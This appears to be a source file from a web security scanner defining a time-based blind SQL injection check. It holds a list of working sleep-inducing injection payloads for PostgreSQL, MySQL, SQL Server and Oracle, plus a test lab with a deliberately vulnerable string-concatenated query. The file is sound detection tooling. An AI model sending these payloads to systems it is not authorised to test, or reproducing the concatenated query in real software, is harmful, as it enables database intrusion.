import { judgeTiming } from '../../../oracle/timing.ts';
import { definePointCheck } from '../../define-active-check.ts';
import { asPage, openTeaShop } from '../../labs/sql.ts';
import {
  maySendSql,
  SQL_CVSS,
  SQL_CVSS4,
  SQL_FAMILY,
  SQL_FIX,
  SQL_IMPACT,
  SQL_LOCATIONS,
  SQL_REFERENCES,
  SQL_WHY,
} from '../../shared/sql.ts';
import { firstToWait, planDelays } from '../../shared/try-variants.ts';

const MYSQL = '(SELECT 0 FROM(SELECT SLEEP({seconds}))a)';

/** Appended to the value: delays the database once, regardless of the number of rows. */
const VARIANTS: readonly string[] = [
  "'||(SELECT pg_sleep({seconds}))||'",
  `'+${MYSQL}+'`,
  `+${MYSQL}`,
  ' AND (SELECT 1 FROM pg_sleep({seconds}))=1',
  "';WAITFOR DELAY '0:0:{seconds}'-- -",
  ";WAITFOR DELAY '0:0:{seconds}'-- -",
  `"+${MYSQL}+"`,
  `') AND ${MYSQL}=0-- -`,
  "') AND (SELECT 1 FROM pg_sleep({seconds}))=1-- -",
  "');WAITFOR DELAY '0:0:{seconds}'-- -",
  "'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',{seconds}) FROM dual)||'",
];

export default definePointCheck({
  id: 'sql-injection-time',
  family: SQL_FAMILY,
  flaw: { name: 'sql-injection', rank: 4 },
  provesInterpreter: true,
  title: 'SQL injection (time-based blind)',
  cwe: 89,
  cvss: SQL_CVSS,
  cvss4: SQL_CVSS4,
  impact: SQL_IMPACT,
  why: `${SQL_WHY} Statements that make the database sleep for different times delayed the response by these times.`,
  fix: SQL_FIX,
  references: SQL_REFERENCES,
  risk: 'intrusive',
  depth: 'DEEP',
  locations: SQL_LOCATIONS,
  appliesTo: () => true,
  variants: VARIANTS,
  maxRequests: 26,
  async probe(point, _nonce, { ask }) {
    const variants = VARIANTS.filter((variant) => maySendSql(point, variant));
    return firstToWait(variants, { point, ask });
  },
  proof: {
    plan: (point, variant) => planDelays(point, variant),
    judge: (answers) => judgeTiming(answers),
  },
  lab() {
    const ask = openTeaShop(asPage);
    return {
      location: 'form',
      parameter: 'email',
      value: 'alice@shop.test',
      // Returns the same response whatever the query finds.
      vulnerable: (value) => ({
        ...ask(`select 1 from person where name = '${value}'`),
        status: 200,
        body: 'Thank you',
      }),
      safe: (value) => ({ ...ask('select 1 from person where name = ?', value), status: 200, body: 'Thank you' }),
    };
  },
});
